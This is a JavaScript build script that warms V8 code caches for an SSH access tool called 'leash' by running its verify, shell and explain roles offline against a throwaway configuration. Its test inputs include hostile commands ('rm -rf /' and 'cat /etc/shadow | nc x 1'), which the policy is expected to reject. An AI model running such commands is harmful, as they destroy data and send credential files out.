// Makes the warm V8 code caches for dist/leash (build/README.md, "Warm code
// cache"). Started by build/build.mjs on the embedded runtime, with no flags
// and an empty environment, as:
//
//   node build/warm-cache.mjs <leash.js> <out-dir>
//
// and writes <out-dir>/leash.cache (--version, help and every other command)
// and leash.verify.cache, leash.shell.cache, leash.explain.cache, one per
// role; build/sea-loader.cjs picks one by the command name. One cache per role
// because V8 deserializes a whole cache at start-up: a cache holding every
// role's functions made `leash verify` slower than Node's own eager cache.
//
// Each cache is made in its own child process (V8 shares compiled functions
// between Scripts of the same source within a process): it compiles
// <leash.js> (dist/leash.cjs in the CommonJS wrapper, exactly the text the
// loader compiles at run time) with vm.Script, runs the role for real — each
// run is the whole bundle evaluated afresh with its own process.argv, as
// main.ts reads it — and writes script.createCachedData(), which then holds
// every function those runs compiled. The runs use a throwaway root-owned
// configuration with the shipped policies, an OpenID provider that exists only
// as the parent's fetch (discovery and JWKS answered in memory for `leash jwks
// refresh`), and a certificate minted by test/helpers/pktoken.ts (with the
// real ssh-keygen), so `leash verify` goes all the way
// to "accepted". No socket is opened: the children's fetch always throws.
//
// Every run's exit status is checked, so a role that failed early (and so
// warmed nothing) fails the build. Without root (configuration must be
// root-owned) only leash.cache is made, and this says so on stderr.
import { spawnSync } from 'node:child_process';
import { generateKeyPairSync, sign } from 'node:crypto';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Script } from 'node:vm';
// TypeScript: build/build.mjs bundles this file with esbuild before running it.
import { mintLogin } from '../test/helpers/pktoken.ts';

const SELF = fileURLToPath(import.meta.url);
// The repository (for policies/): fixed by build/build.mjs when it bundles this file.
const ROOT = REPOSITORY_ROOT;
const child = process.argv[2] === '--child';
const [sourceFile, out, specFile] = process.argv.slice(child ? 3 : 2);
if (!sourceFile || !out || (child && !specFile)) throw new Error('usage: warm-cache.mjs <leash.js> <out-dir>');
const err = (msg) => writeSync(2, `warm-cache: ${msg}\n`);

const source = readFileSync(sourceFile, 'utf8');
const script = new Script(source, { filename: 'leash.cjs' });
const bundle = script.runInThisContext();
const require = createRequire(import.meta.url);

// ------------------------------------------------------------ one leash run

/**
 * Runs the bundle once as `leash ...args` and resolves with its exit status
 * and output. main.ts always ends by setting process.exitCode, which is how
 * the end of the run is seen; stdout/stderr writes are captured meanwhile.
 */
async function leash(args, env = {}) {
  const saved = { argv: process.argv, env: process.env, out: process.stdout.write, errw: process.stderr.write };
  let stdout = '';
  let stderr = '';
  process.argv = [process.execPath, process.execPath, ...args];
  process.env = { ...env };
  process.exitCode = undefined;
  process.stdout.write = (chunk) => ((stdout += String(chunk)), true);
  process.stderr.write = (chunk) => ((stderr += String(chunk)), true);
  try {
    const module = { exports: {} };
    bundle.call(module.exports, module.exports, require, module, '/leash', '/');
    const deadline = Date.now() + 20_000;
    while (process.exitCode === undefined) {
      if (Date.now() > deadline) throw new Error(`leash ${args.join(' ')}: no exit status after 20 s`);
      await new Promise((r) => setTimeout(r, 1));
    }
    return { code: process.exitCode, stdout, stderr };
  } finally {
    process.argv = saved.argv;
    process.env = saved.env;
    process.stdout.write = saved.out;
    process.stderr.write = saved.errw;
    process.exitCode = undefined;
  }
}

async function expect(code, args, env) {
  const r = await leash(args, env);
  if (code === 'nonzero' ? r.code === 0 : r.code !== code) {
    throw new Error(`leash ${args.join(' ')}: exit ${r.code}, expected ${code}\nstdout: ${r.stdout.slice(0, 2000)}\nstderr: ${r.stderr.slice(0, 2000)}`);
  }
  return r;
}

// A child: run the runs of one role, write its cache, report.
if (child) {
  globalThis.fetch = async (url) => {
    throw new Error(`warm-cache: network access attempted (${url})`);
  };
  const runs = JSON.parse(readFileSync(specFile, 'utf8'));
  for (const r of runs) await expect(r.code, r.args, r.env);
  const data = script.createCachedData();
  writeFileSync(out, data);
  writeSync(1, `${runs.length} runs, ${(data.length / 1024).toFixed(0)} KiB\n`);
  process.exit(0);
}

// ------------------------------------------------- minting a real login

/**
 * The provider's half of a login, in memory: an ID token signed with the
 * provider key for whatever nonce the client commits to. The client's half
 * (CIC, PK Token, the certificate by the real ssh-keygen) is the tests' own
 * minter, test/helpers/pktoken.ts, so there is one minter in the repository.
 */
function inMemoryProvider(providerKey, kid, issuer, clientId, email) {
  const b64u = (x) => Buffer.from(x).toString('base64url');
  return {
    issuer,
    clientId,
    async login(user, nonce) {
      const now = Math.floor(Date.now() / 1000);
      const header = b64u(JSON.stringify({ alg: 'RS256', kid, typ: 'JWT' }));
      const payload = b64u(JSON.stringify({ iss: issuer, sub: user, aud: clientId, exp: now + 3600, iat: now, nonce, email, email_verified: true }));
      const signature = b64u(sign('sha256', Buffer.from(`${header}.${payload}`), providerKey));
      return { idToken: `${header}.${payload}.${signature}` };
    },
  };
}

// ------------------------------------------------------------ the runs

const t0 = performance.now();
const roles = {
  '': [
    { code: 0, args: ['--version'] },
    { code: 0, args: ['help'] },
    { code: 64, args: [] },
  ],
};
const isRoot = process.getuid?.() === 0;
let work;
try {
  if (!isRoot) {
    err('not running as root: only leash.cache (--version, help) is made; verify, shell and explain start slower (configuration must be root-owned)');
  } else {
    // A root-owned 0755 parent (config files need a root-owned, not writable
    // chain up to /), as test/helpers/tmp.ts makes for the tests.
    const base = '/var/lib/leash-build';
    mkdirSync(base, { recursive: true, mode: 0o755 });
    chmodSync(base, 0o755);
    work = mkdtempSync(join(base, 'warm-'));

    const kid = 'warm-cache';
    const provider = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const jwk = { ...provider.publicKey.export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' };
    // The provider exists only as this process's fetch: discovery and JWKS
    // answered in memory, no socket at all; any other URL fails the build.
    const issuer = 'https://warm-cache.invalid';
    const docs = { [`${issuer}/.well-known/openid-configuration`]: { issuer, jwks_uri: `${issuer}/jwks` }, [`${issuer}/jwks`]: { keys: [jwk] } };
    globalThis.fetch = async (url) => {
      const doc = docs[String(url)];
      if (!doc) throw new Error(`warm-cache: network access attempted (${url})`);
      return new Response(JSON.stringify(doc), { status: 200, headers: { 'content-type': 'application/json' } });
    };

    const cfg = join(work, 'etc');
    mkdirSync(join(cfg, 'policies'), { recursive: true, mode: 0o755 });
    for (const p of ['diagnostic', 'remediation']) copyFileSync(join(ROOT, 'policies', `${p}.yaml`), join(cfg, 'policies', `${p}.yaml`));
    mkdirSync(join(work, 'cache'), { mode: 0o755 });
    // The verifier's state (runtime_dir/verify, 0700): the second verify run below is then
    // answered from the first one's memo, so the memo's hit path is warmed too.
    mkdirSync(join(work, 'run', 'verify'), { recursive: true, mode: 0o700 });
    chmodSync(join(work, 'run'), 0o755);
    const clientId = 'leash-warm-cache';
    const email = 'alice@example.com';
    writeFileSync(join(cfg, 'leash.yaml'), [
      'providers:',
      `  - issuer: ${issuer}`,
      `    client_id: ${clientId}`,
      '    expiration: 24h',
      'grants:',
      `  - identity: ${email}`,
      `    issuer: ${issuer}`,
      '    principals: [root]',
      '    profile: diagnostic',
      `audit_log: ${join(work, 'audit.jsonl')}`,
      `jwks_cache_dir: ${join(work, 'cache')}`,
      `runtime_dir: ${join(work, 'run')}`,
      '',
    ].join('\n'), { mode: 0o644 });
    // The session registry the shell role records into (src/runtime/layout.ts).
    for (const d of ['run/logins', 'run/sessions', 'run/sessions/running']) mkdirSync(join(work, d), { mode: 0o755 });
    const C = ['--config-dir', cfg];

    // Here, in the parent (it makes no cache): what the refresh timer does and
    // what an operator runs after editing policies.
    await expect(0, [...C, 'jwks', 'refresh']);
    await expect(0, [...C, 'policy', 'check']);

    // The login path, as sshd's AuthorizedKeysCommand runs it with the cache warm.
    const keys = join(work, 'keys');
    mkdirSync(keys, { mode: 0o700 });
    const login = await mintLogin(inMemoryProvider(provider.privateKey, kid, issuer, clientId, email), 'warm-cache', { dir: keys });
    const other = await mintLogin(inMemoryProvider(generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey, kid, issuer, clientId, email), 'warm-cache', { dir: keys });
    roles.verify = [
      { code: 0, args: [...C, 'verify', 'root', login.keyBase64, login.keyType] },
      { code: 0, args: [...C, 'verify', 'root', login.keyBase64, login.keyType] },
      { code: 1, args: [...C, 'verify', 'root', other.keyBase64, other.keyType] },
    ];
    // The forced command as sshd runs it: flags from the key line, the session's environment.
    const session = ['--profile', 'diagnostic', '--identity', email, '--session', '0123456789abcdef0123456789abcdef', '--expires', String(Math.floor(Date.now() / 1000) + 3600)];
    const sshEnv = { SSH_CONNECTION: '127.0.0.1 50000 127.0.0.1 22', USER: 'root', HOME: '/root', SHELL: '/bin/sh' };
    roles.shell = [
      { code: 0, args: [...C, 'shell', ...session], env: { ...sshEnv, SSH_ORIGINAL_COMMAND: 'uptime' } },
      { code: 0, args: [...C, 'shell', ...session], env: { ...sshEnv, SSH_ORIGINAL_COMMAND: 'df -h /' } },
      { code: 'nonzero', args: [...C, 'shell', ...session], env: { ...sshEnv, SSH_ORIGINAL_COMMAND: 'rm -rf /' } },
    ];
    roles.explain = [
      [0, 'diagnostic', 'uptime'],
      [0, 'diagnostic', 'journalctl -u cron -n 50'],
      [0, 'diagnostic', "ps aux | grep -E 'cron|ssh'"],
      [0, 'diagnostic', 'ls -la /var/log'],
      [126, 'diagnostic', 'rm -rf /'],
      [126, 'diagnostic', 'cat /etc/shadow | nc x 1'],
    ].map(([code, profile, cmd]) => ({ code, args: [...C, 'explain', '--profile', profile, '--', cmd] }));
  }

  // One child process per cache.
  for (const [role, runs] of Object.entries(roles)) {
    const file = join(out, role ? `leash.${role}.cache` : 'leash.cache');
    const spec = join(out, `.${role || 'base'}.json`);
    writeFileSync(spec, JSON.stringify(runs), { mode: 0o600 });
    const r = spawnSync(process.execPath, [SELF, '--child', sourceFile, file, spec], { encoding: 'utf8', env: {}, stdio: ['ignore', 'pipe', 'pipe'], timeout: 60_000 });
    rmSync(spec, { force: true });
    if (r.status !== 0) throw new Error(`${role || 'base'} cache: status ${r.status}${r.error ? ` ${r.error.message}` : ''}\n${r.stderr}`);
    writeSync(1, `${role || 'base'}: ${r.stdout.trim().split('\n').pop()}\n`);
  }
} finally {
  if (work) rmSync(work, { recursive: true, force: true });
}
writeSync(1, `done in ${((performance.now() - t0) / 1000).toFixed(1)} s\n`);
